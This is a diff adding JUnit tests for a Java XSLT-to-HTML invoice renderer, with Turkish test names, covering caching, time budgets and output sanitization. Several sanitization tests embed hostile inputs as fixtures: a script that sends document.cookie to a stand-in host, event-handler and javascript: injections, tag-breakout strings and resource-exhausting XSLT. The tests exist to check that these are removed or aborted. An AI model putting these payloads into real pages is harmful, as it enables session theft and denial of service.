@@ -8,8 +8,15 @@ import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
 
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Base64;
+import java.util.zip.GZIPInputStream;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
@@ -20,17 +27,31 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 @DisplayName("SaxonXsltTransformer")
 class SaxonXsltTransformerTest {
 
+    @TempDir
+    Path assetDir;
+
     private SaxonXsltTransformer transformer;
+    private XsltTemplateRegistry templateRegistry;
+    private SimpleMeterRegistry registry;
 
     @BeforeEach
-    void setUp() {
+    void setUp() throws Exception {
         var assetManager = new AssetManager();
+        var pathField = AssetManager.class.getDeclaredField("externalPath");
+        pathField.setAccessible(true);
+        pathField.set(assetManager, assetDir.toString());
         assetManager.init();
         var watermarkService = new WatermarkService();
-        var htmlSanitizer = new HtmlSanitizer();
         var embeddedXsltExtractor = new EmbeddedXsltExtractor();
-        var metrics = new XsltMetrics(new SimpleMeterRegistry());
-        transformer = new SaxonXsltTransformer(assetManager, watermarkService, htmlSanitizer, embeddedXsltExtractor, metrics);
+        registry = new SimpleMeterRegistry();
+        var metrics = new XsltMetrics(registry);
+        var htmlSanitizer = new HtmlSanitizer(metrics);
+        htmlSanitizer.init();
+        templateRegistry = new XsltTemplateRegistry(assetManager, metrics);
+        templateRegistry.init();
+        transformer = new SaxonXsltTransformer(assetManager, watermarkService, htmlSanitizer, embeddedXsltExtractor,
+                templateRegistry, metrics);
+        transformer.init();
     }
 
     @Test
@@ -114,4 +135,795 @@ class SaxonXsltTransformerTest {
         assertThatThrownBy(() -> transformer.transform(request))
                 .isInstanceOf(TransformException.class);
     }
+
+    @Test
+    @DisplayName("Aynı özel XSLT tekrar gönderildiğinde derlenmiş hali cache'den kullanılmalı")
+    void shouldReuseCompiledCustomXsltFromCache() throws TransformException {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/">
+                        <html><head></head><body><h1><xsl:value-of select="/root/name"/></h1></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        for (String name : new String[]{"Birinci", "İkinci"}) {
+            var request = new TransformRequest();
+            request.setTransformType(TransformType.INVOICE);
+            request.setDocument(("<root><name>" + name + "</name></root>").getBytes(StandardCharsets.UTF_8));
+            request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+            var result = transformer.transform(request);
+
+            assertThat(result.isDefaultXslUsed()).isFalse();
+            assertThat(new String(result.getHtmlContent(), StandardCharsets.UTF_8)).contains(name);
+        }
+
+        assertThat(registry.get("xslt_compiled_xslt_cache_requests_total")
+                .tags("cache", "custom", "result", "miss").functionCounter().count()).isEqualTo(1.0);
+        assertThat(registry.get("xslt_compiled_xslt_cache_requests_total")
+                .tags("cache", "custom", "result", "hit").functionCounter().count()).isEqualTo(1.0);
+        assertThat(registry.get("xslt_compiled_xslt_cache_size")
+                .tag("cache", "custom").gauge().value()).isEqualTo(1.0);
+    }
+
+    @Test
+    @DisplayName("Derlenemeyen özel XSLT cache'e yazılmamalı")
+    void shouldNotCacheFailedCustomXsltCompilation() {
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.ECHECK);
+        request.setDocument("<root/>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer("THIS IS NOT VALID XSLT".getBytes(StandardCharsets.UTF_8));
+
+        assertThatThrownBy(() -> transformer.transform(request))
+                .isInstanceOf(TransformException.class);
+
+        assertThat(registry.get("xslt_compiled_xslt_cache_size")
+                .tag("cache", "custom").gauge().value()).isZero();
+    }
+
+    @Test
+    @DisplayName("Derlenemeyen özel XSLT hatırlanmalı, tekrarında derlenmeden aynı hatayla varsayılana dönülmeli")
+    void shouldRememberFailedCustomXsltCompilation() throws Exception {
+        Files.createDirectories(assetDir.resolve("default_transformers"));
+        Files.writeString(assetDir.resolve("default_transformers/eInvoice_Base.xslt"), """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/"><html><body>Varsayılan</body></html></xsl:template>
+                </xsl:stylesheet>""");
+        transformer.reload();
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root/>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer("THIS IS NOT VALID XSLT".getBytes(StandardCharsets.UTF_8));
+
+        var first = transformer.transform(request);
+        var second = transformer.transform(request);
+
+        assertThat(first.isDefaultXslUsed()).isTrue();
+        assertThat(first.getCustomXsltError()).isNotBlank();
+        assertThat(second.isDefaultXslUsed()).isTrue();
+        assertThat(second.getCustomXsltError()).isEqualTo(first.getCustomXsltError());
+
+        // İkinci istek derleme cache'ine hiç uğramamalı
+        assertThat(registry.get("xslt_compiled_xslt_cache_requests_total")
+                .tags("cache", "custom", "result", "miss").functionCounter().count()).isEqualTo(1.0);
+        assertThat(registry.get("xslt_failed_xslt_cache_hits_total")
+                .tag("cache", "custom").counter().count()).isEqualTo(1.0);
+        assertThat(registry.get("xslt_failed_xslt_cache_size").gauge().value()).isEqualTo(1.0);
+    }
+
+    @Test
+    @DisplayName("Süre bütçesini aşan özel XSLT kesilmeli, varsayılana dönülmeli ve metriğe yazılmalı")
+    void shouldAbortCustomXsltExceedingBudget() throws Exception {
+        Files.createDirectories(assetDir.resolve("default_transformers"));
+        Files.writeString(assetDir.resolve("default_transformers/eInvoice_Base.xslt"), """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/"><html><body>Varsayılan</body></html></xsl:template>
+                </xsl:stylesheet>""");
+        setField("maxCpuMs", 0L);
+        setField("maxWallMs", 200L);
+        transformer.init();
+        transformer.reload();
+
+        // 2^40 şablon çağrısı — bütçe olmadan thread'i saatlerce meşgul eder
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/">
+                        <html><body><xsl:call-template name="f"><xsl:with-param name="n" select="40"/></xsl:call-template></body></html>
+                    </xsl:template>
+                    <xsl:template name="f">
+                        <xsl:param name="n"/>
+                        <xsl:if test="$n &gt; 0">
+                            <xsl:call-template name="f"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>
+                            <xsl:call-template name="f"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>
+                        </xsl:if>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root/>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        long start = System.nanoTime();
+        var result = transformer.transform(request);
+
+        assertThat((System.nanoTime() - start) / 1_000_000).isLessThan(10_000);
+        assertThat(result.isDefaultXslUsed()).isTrue();
+        assertThat(result.getCustomXsltError()).contains("süre bütçesini aştı");
+        assertThat(new String(result.getHtmlContent(), StandardCharsets.UTF_8)).contains("Varsayılan");
+        assertThat(registry.get("xslt_transform_budget_exceeded_total")
+                .tags("transform_type", "INVOICE", "source", "custom", "limit", "wall")
+                .counter().count()).isEqualTo(1.0);
+    }
+
+    @Test
+    @DisplayName("İzleme olayı üretmeyen tek bir uzun XPath ifadesi süre sınırında bırakılmalı ve varsayılana dönülmeli")
+    void shouldAbortSingleLongXPathWithoutTraceEvents() throws Exception {
+        writeDefaultInvoiceXslt();
+        setField("maxCpuMs", 0L);
+        setField("maxWallMs", 200L);
+        transformer.init();
+        transformer.reload();
+
+        // Tek value-of içinde 10^10 elemanlı toplam — özyineleme yok, ifade süresince izleme olayı üretilmez.
+        // Üst sınır belgeden okunur; derleyici ifadeyi sabit olarak önceden hesaplayamaz.
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
+                                xmlns:xs="http://www.w3.org/2001/XMLSchema">
+                    <xsl:template match="/">
+                        <html><body><xsl:value-of select="sum(for $i in 1 to xs:integer(/root/@n) return $i * $i)"/></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root n=\"10000000000\"/>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        long start = System.nanoTime();
+        var result = transformer.transform(request);
+
+        assertThat((System.nanoTime() - start) / 1_000_000).isLessThan(10_000);
+        assertThat(result.isDefaultXslUsed()).isTrue();
+        assertThat(result.getCustomXsltError()).contains("süre bütçesini aştı");
+        assertThat(new String(result.getHtmlContent(), StandardCharsets.UTF_8)).contains("Varsayılan");
+        assertThat(registry.get("xslt_transform_budget_exceeded_total")
+                .tags("transform_type", "INVOICE", "source", "custom", "limit", "wall")
+                .counter().count()).isEqualTo(1.0);
+
+        // Terk edilen dönüşüm thread'i daemon'dur; havuz kapatılarak kesme sinyali gönderilir
+        transformer.shutdown();
+    }
+
+    @Test
+    @DisplayName("Yalnızca XSLT 1.0 varsayılan şablon istemci tarafı render için sunulmalı")
+    void shouldResolveClientTemplateOnlyForXslt1Defaults() throws Exception {
+        String xslt1 = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/"><html><body><xsl:value-of select="/root/name"/></body></html></xsl:template>
+                </xsl:stylesheet>""";
+        Files.createDirectories(assetDir.resolve("default_transformers"));
+        Files.writeString(assetDir.resolve("default_transformers/eInvoice_Base.xslt"), xslt1);
+        Files.writeString(assetDir.resolve("default_transformers/eArchive_Base.xslt"), xslt1.replace(
+                "version=\"1.0\" xmlns:xsl", "version=\"2.0\" xmlns:xsl"));
+        transformer.reload();
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><name>Test</name></root>".getBytes(StandardCharsets.UTF_8));
+
+        var clientTemplate = transformer.resolveClientTemplate(request).orElseThrow();
+        assertThat(clientTemplate.hash()).hasSize(16);
+        assertThat(new String(clientTemplate.content(), StandardCharsets.UTF_8)).isEqualTo(xslt1);
+        assertThat(transformer.getClientTemplate(clientTemplate.hash())).containsSame(clientTemplate);
+
+        // XSLT 2.0 şablon ve filigran sunucu tarafında render edilir
+        request.setTransformType(TransformType.ARCHIVE_INVOICE);
+        assertThat(transformer.resolveClientTemplate(request)).isEmpty();
+        request.setTransformType(TransformType.INVOICE);
+        request.setWatermarkText("TASLAK");
+        assertThat(transformer.resolveClientTemplate(request)).isEmpty();
+    }
+
+    @Test
+    @DisplayName("Aynı gömülü XSLT'yi taşıyan belgelerde derlenmiş şablon tekrar kullanılmalı")
+    void shouldReuseCompiledEmbeddedXsltAcrossDocuments() throws TransformException {
+        String xslt = """
+                <?xml version="1.0" encoding="Windows-1254"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
+                        xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
+                    <xsl:template match="/">
+                        <html><head></head><body><h1><xsl:value-of select="//cbc:ID[1]"/></h1></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+        String base64Xslt = Base64.getEncoder().encodeToString(xslt.getBytes(StandardCharsets.UTF_8));
+
+        for (String invoiceId : new String[]{"FTR2026000000001", "FTR2026000000002"}) {
+            var request = new TransformRequest();
+            request.setTransformType(TransformType.INVOICE);
+            request.setDocument(buildUblWithEmbeddedXslt(invoiceId, base64Xslt).getBytes(StandardCharsets.UTF_8));
+            request.setUseEmbeddedXslt(true);
+
+            var result = transformer.transform(request);
+
+            assertThat(result.isEmbeddedXsltUsed()).isTrue();
+            assertThat(result.getCustomXsltError()).isNull();
+            assertThat(new String(result.getHtmlContent(), StandardCharsets.UTF_8)).contains(invoiceId);
+        }
+
+        assertThat(registry.get("xslt_compiled_xslt_cache_requests_total")
+                .tags("cache", "embedded", "result", "hit").functionCounter().count()).isEqualTo(1.0);
+        assertThat(registry.get("xslt_embedded_xslt_cache_hit_ratio").gauge().value()).isEqualTo(0.5);
+    }
+
+    @Test
+    @DisplayName("Dönüşüm çıktısı akış sırasında sanitize edilmeli ve filigran eklenmeli")
+    void shouldSanitizeAndWatermarkWhileStreaming() throws TransformException {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="html"/>
+                    <xsl:template match="/">
+                        <html>
+                            <head><title>Fatura</title><base href="https://evil.example/"/></head>
+                            <body onload="steal()">
+                                <a href="javascript:alert(1)">Link</a>
+                                <iframe src="https://evil.example"><p>gizli</p></iframe>
+                                <script>var qr = 1;</script>
+                                <script>fetch('https://evil.example?c=' + document.cookie);</script>
+                                <script src="https://cdn.example/x.js"></script>
+                                <h1><xsl:value-of select="/root/name"/></h1>
+                            </body>
+                        </html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><name>Test</name></root>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+        request.setWatermarkText("TASLAK <b>");
+
+        var result = transformer.transform(request);
+        String html = new String(result.getHtmlContent(), StandardCharsets.UTF_8);
+
+        assertThat(html).contains("<h1>Test</h1>", "var qr = 1;", "class=\"watermark\"", "TASLAK &lt;b&gt;");
+        assertThat(html).doesNotContain("<iframe", "gizli", "<base", "onload", "javascript:", "fetch(", "cdn.example");
+        assertThat(html.indexOf(".watermark {")).isBetween(html.indexOf("<head"), html.indexOf("</head>"));
+        assertThat(html.lastIndexOf("TASLAK")).isLessThan(html.indexOf("</body>"));
+
+        assertThat(result.isWatermarkApplied()).isTrue();
+        assertThat(result.getRemovedScriptCount()).isEqualTo(2);
+        assertThat(result.getAllowedScriptHashes())
+                .containsExactly(HtmlSanitizer.computeSha256Base64("var qr = 1;"));
+        assertThat(result.getSecurityViolations()).hasSize(2);
+    }
+
+    @Test
+    @DisplayName("Derleme anında güvenli kanıtlanan XSLT'de sanitization atlanmalı, script hash'i önceden hesaplanmalı")
+    void shouldSkipSanitizationForProvenSafeXslt() throws TransformException {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="html"/>
+                    <xsl:template match="/">
+                        <html><head><script>var qr = 1;</script></head>
+                        <body><h1><xsl:value-of select="/root/name"/></h1></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><name>&lt;script&gt;fetch(1)&lt;/script&gt;</name></root>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var result = transformer.transform(request);
+        String html = new String(result.getHtmlContent(), StandardCharsets.UTF_8);
+
+        // Belge verisi her zaman escape edilir — filtre olmadan da script üretilemez
+        assertThat(html).contains("var qr = 1;", "&lt;script&gt;");
+        assertThat(result.getAllowedScriptHashes())
+                .containsExactly(HtmlSanitizer.computeSha256Base64("var qr = 1;"));
+        assertThat(result.getRemovedScriptCount()).isZero();
+        assertThat(registry.get("xslt_transform_sanitization_total").tag("mode", "skipped").counter().count())
+                .isEqualTo(1.0);
+    }
+
+    @Test
+    @DisplayName("disable-output-escaping ile yazılan ham HTML de sanitize edilmeli")
+    void shouldSanitizeRawOutputWrittenWithDisableOutputEscaping() throws TransformException {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="html"/>
+                    <xsl:template match="/">
+                        <html><head></head><body>
+                            <xsl:text disable-output-escaping="yes">&lt;iframe src="https://evil.example"&gt;&lt;/iframe&gt;</xsl:text>
+                            <p>İçerik</p>
+                        </body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root/>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var result = transformer.transform(request);
+        String html = new String(result.getHtmlContent(), StandardCharsets.UTF_8);
+
+        assertThat(html).doesNotContain("<iframe").contains("İçerik");
+    }
+
+    @Test
+    @DisplayName("Style metnindeki kapanış etiketi ile canlı HTML üretilememeli")
+    void shouldSanitizeMarkupEscapingStyleElement() throws TransformException {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="html"/>
+                    <xsl:template match="/">
+                        <html><head><style><xsl:value-of select="/root/css"/></style></head>
+                        <body><p>İçerik</p></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><css>&lt;/style&gt;&lt;img src=x onerror=steal()&gt;</css></root>"
+                .getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var result = transformer.transform(request);
+        String html = new String(result.getHtmlContent(), StandardCharsets.UTF_8);
+
+        assertThat(html).doesNotContain("onerror").contains("İçerik");
+    }
+
+    @Test
+    @DisplayName("Script metnindeki </script ile script kapatılıp canlı HTML üretilememeli")
+    void shouldSanitizeMarkupEscapingScriptElement() throws TransformException {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="html"/>
+                    <xsl:template match="/">
+                        <html><head><script><xsl:value-of select="/root/js"/></script></head>
+                        <body><p>İçerik</p></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><js>var x = 1;&lt;/SCRIPT&gt;&lt;img src=x onerror=steal()&gt;</js></root>"
+                .getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var result = transformer.transform(request);
+        String html = new String(result.getHtmlContent(), StandardCharsets.UTF_8);
+
+        assertThat(html).doesNotContain("onerror").contains("İçerik");
+        assertThat(result.getAllowedScriptHashes())
+                .doesNotContain(HtmlSanitizer.computeSha256Base64("var x = 1;</SCRIPT><img src=x onerror=steal()>"));
+    }
+
+    @Test
+    @DisplayName("text çıktı yöntemiyle düz metin olarak yazılan markup da sanitize edilmeli")
+    void shouldSanitizeMarkupWrittenWithTextOutputMethod() throws TransformException {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="text"/>
+                    <xsl:template match="/"><xsl:value-of select="/root/html"/></xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><html>&lt;p&gt;İçerik&lt;/p&gt;&lt;img src=x onerror=steal()&gt;&lt;iframe src=https://evil.example&gt;&lt;/iframe&gt;</html></root>"
+                .getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var result = transformer.transform(request);
+        String html = new String(result.getHtmlContent(), StandardCharsets.UTF_8);
+
+        assertThat(html).doesNotContain("onerror", "<iframe").contains("İçerik");
+    }
+
+    @Test
+    @DisplayName("xhtml çıktısında escape edilen script metninin CSP hash'i yazılan metinden hesaplanmalı")
+    void shouldHashEscapedScriptAsWrittenForXhtmlOutput() throws TransformException {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="xhtml" omit-xml-declaration="yes"/>
+                    <xsl:template match="/">
+                        <html><head><script><xsl:value-of select="/root/js"/></script></head>
+                        <body><p>İçerik</p></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><js>var ok = 1 &lt; 2;</js></root>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var result = transformer.transform(request);
+        String html = new String(result.getHtmlContent(), StandardCharsets.UTF_8);
+
+        assertThat(html).contains("var ok = 1 &lt; 2;");
+        assertThat(result.getAllowedScriptHashes())
+                .containsExactly(HtmlSanitizer.computeSha256Base64("var ok = 1 &lt; 2;"));
+    }
+
+    @Test
+    @DisplayName("Akış modunda güvensiz style atlanmalı, HTML dışı çıktı yöntemi akışa yazılmamalı")
+    void shouldDropUnsafeRawTextAndRejectTextOutputWhileStreaming() throws Exception {
+        String styleXslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="html"/>
+                    <xsl:template match="/">
+                        <html><head><style>p { color: red; }</style><style><xsl:value-of select="/root/css"/></style></head>
+                        <body><p>Akış</p></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><css>&lt;/style&gt;&lt;img src=x onerror=steal()&gt;</css></root>"
+                .getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(styleXslt.getBytes(StandardCharsets.UTF_8));
+
+        var output = new ByteArrayOutputStream();
+        var result = transformer.transform(request, output);
+        String html = output.toString(StandardCharsets.UTF_8);
+
+        assertThat(html).contains("Akış", "p { color: red; }").doesNotContain("onerror");
+        assertThat(result.getSecurityViolations()).anyMatch(v -> v.startsWith("Style"));
+
+        String textXslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="text"/>
+                    <xsl:template match="/">&lt;img src=x onerror=steal()&gt;</xsl:template>
+                </xsl:stylesheet>""";
+        request.setTransformer(textXslt.getBytes(StandardCharsets.UTF_8));
+        var rejected = new ByteArrayOutputStream();
+
+        // Özel XSLT reddedilir, varsayılan yüklü değil — akışa hiçbir şey yazılmamalı
+        assertThatThrownBy(() -> transformer.transform(request, rejected))
+                .isInstanceOf(TransformException.class);
+        assertThat(rejected.size()).isZero();
+    }
+
+    @Test
+    @DisplayName("Akış modunda HTML doğrudan verilen akışa yazılmalı, ham metin escape edilmeli")
+    void shouldWriteHtmlDirectlyToOutputStream() throws Exception {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="html"/>
+                    <xsl:template match="/">
+                        <html><head></head><body>
+                            <h1><xsl:value-of select="/root/name"/></h1>
+                            <xsl:text disable-output-escaping="yes">&lt;iframe src="https://evil.example"&gt;&lt;/iframe&gt;</xsl:text>
+                        </body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><name>Akış</name></root>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+        request.setWatermarkText("TASLAK");
+
+        var output = new ByteArrayOutputStream();
+        var result = transformer.transform(request, output);
+        String html = output.toString(StandardCharsets.UTF_8);
+
+        assertThat(result.getHtmlContent()).isNull();
+        assertThat(result.getOutputSize()).isEqualTo(output.size());
+        assertThat(result.isDefaultXslUsed()).isFalse();
+        assertThat(html).contains("Akış").contains("class=\"watermark\"")
+                .doesNotContain("<iframe").contains("&lt;iframe");
+        assertThat(result.getSecurityViolations()).anyMatch(v -> v.contains("disable-output-escaping"));
+    }
+
+    @Test
+    @DisplayName("Akış modunda çıktı yazılmadan başarısız olan dönüşüm akışa hiçbir şey yazmamalı")
+    void shouldNotWriteToStreamWhenTransformFailsBeforeCommit() {
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root/>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer("<not-valid-xslt/>".getBytes(StandardCharsets.UTF_8));
+
+        var output = new ByteArrayOutputStream();
+
+        // Özel XSLT derlenemez, varsayılan da yüklü değil
+        assertThatThrownBy(() -> transformer.transform(request, output))
+                .isInstanceOf(TransformException.class);
+        assertThat(output.size()).isZero();
+    }
+
+    @Test
+    @DisplayName("Akış modunda çıktı istemciye aktıktan sonraki hata varsayılana dönmemeli")
+    void shouldNotFallBackAfterStreamIsCommitted() {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/">
+                        <html><head></head><body>
+                            <xsl:for-each select="1 to 20000"><p>Satır <xsl:value-of select="."/></p></xsl:for-each>
+                            <xsl:message terminate="yes">Bilinçli hata</xsl:message>
+                        </body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root/>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var output = new ByteArrayOutputStream();
+
+        assertThatThrownBy(() -> transformer.transform(request, output))
+                .isInstanceOf(TransformException.class)
+                .hasMessageContaining("varsayılana dönülemiyor");
+        assertThat(output.size()).isGreaterThan(64 * 1024);
+    }
+
+    @Test
+    @DisplayName("templateId ile kayıtlı şablon kullanılmalı, bilinmeyen şablon istek hatası olmalı")
+    void shouldTransformWithRegisteredTemplate() throws Exception {
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/">
+                        <html><head></head><body><h2>Kayıtlı: <xsl:value-of select="/root/name"/></h2></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+        templateRegistry.saveTemplate("acme-fatura", xslt.getBytes(StandardCharsets.UTF_8));
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><name>Acme</name></root>".getBytes(StandardCharsets.UTF_8));
+        request.setTemplateId("acme-fatura");
+
+        var result = transformer.transform(request);
+
+        assertThat(result.isDefaultXslUsed()).isFalse();
+        assertThat(new String(result.getHtmlContent(), StandardCharsets.UTF_8)).contains("Kayıtlı: Acme");
+
+        request.setTemplateId("olmayan-sablon");
+        assertThatThrownBy(() -> transformer.transform(request))
+                .isInstanceOf(IllegalArgumentException.class)
+                .hasMessageContaining("olmayan-sablon");
+    }
+
+    @Test
+    @DisplayName("Sonuç cache'i açıkken aynı istek Saxon çalıştırılmadan cache'ten dönmeli, reload cache'i temizlemeli")
+    void shouldServeRepeatedTransformFromResultCache() throws Exception {
+        setField("resultCacheEnabled", true);
+        setField("resultCacheCompress", true);
+        transformer.init();
+
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/">
+                        <html><head></head><body><h1><xsl:value-of select="/root/name"/></h1></body></html>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><name>Önbellek</name></root>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+        request.setWatermarkText("TASLAK");
+
+        var first = transformer.transform(request);
+        var second = transformer.transform(request);
+
+        assertThat(first.isCacheHit()).isFalse();
+        assertThat(first.getResultTag()).isEqualTo(transformer.resultTag(request));
+        assertThat(second.isCacheHit()).isTrue();
+        assertThat(second.getResultTag()).isEqualTo(first.getResultTag());
+        assertThat(second.getHtmlContent()).isEqualTo(first.getHtmlContent());
+        assertThat(second.isWatermarkApplied()).isTrue();
+
+        // Akış modunda da cache'teki HTML doğrudan yazılmalı
+        var output = new ByteArrayOutputStream();
+        var streamed = transformer.transform(request, output);
+        assertThat(streamed.isCacheHit()).isTrue();
+        assertThat(output.toByteArray()).isEqualTo(first.getHtmlContent());
+
+        // Filigran farklıysa etiket de farklı olmalı
+        var otherWatermark = new TransformRequest();
+        otherWatermark.setTransformType(TransformType.INVOICE);
+        otherWatermark.setDocument(request.getDocument());
+        otherWatermark.setTransformer(request.getTransformer());
+        otherWatermark.setWatermarkText("İPTAL");
+        assertThat(transformer.resultTag(otherWatermark)).isNotEqualTo(first.getResultTag());
+
+        assertThat(registry.get("xslt_transform_result_cache_requests_total")
